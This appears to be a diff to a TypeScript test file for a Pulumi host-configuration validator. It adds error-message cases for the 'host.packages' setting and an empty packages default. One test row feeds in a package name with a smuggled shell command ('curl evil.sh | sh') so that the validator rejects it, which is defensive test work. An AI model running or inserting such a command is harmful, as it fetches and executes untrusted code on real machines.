@@ -117,6 +117,16 @@ const ROWS: Row[] = [
       "apphost:host.port: expected an integer from 1 to 65535, got \"ssh\"; set it with: pulumi config set --path 'apphost:host.port' 22",
   },
   {
+    set: { "host.packages": ["build-essential", "libpq-dev; curl evil.sh | sh"] },
+    error:
+      'apphost:host.packages[1]: expected a Debian package name like "build-essential" (lowercase letters, digits and .+-), got "libpq-dev; curl evil.sh | sh"; fix the item',
+  },
+  {
+    set: { "host.packages": "build-essential" },
+    error:
+      'apphost:host.packages: expected a list of strings, got "build-essential"; write it as a YAML list, e.g. ["build-essential", "python3-dev"]',
+  },
+  {
     set: { "host.os": "debian-11" },
     error:
       'apphost:host.os: expected one of "debian-12", "ubuntu-24.04", got "debian-11"; set it with: pulumi config set --path \'apphost:host.os\' debian-12',
@@ -1028,6 +1038,7 @@ describe("stack config defaults", () => {
         os: "debian-12",
         user: "admin",
         port: 22,
+        packages: [],
         via: { kind: "direct" },
         swapMb: 0,
         rootVolumeGb: 20,
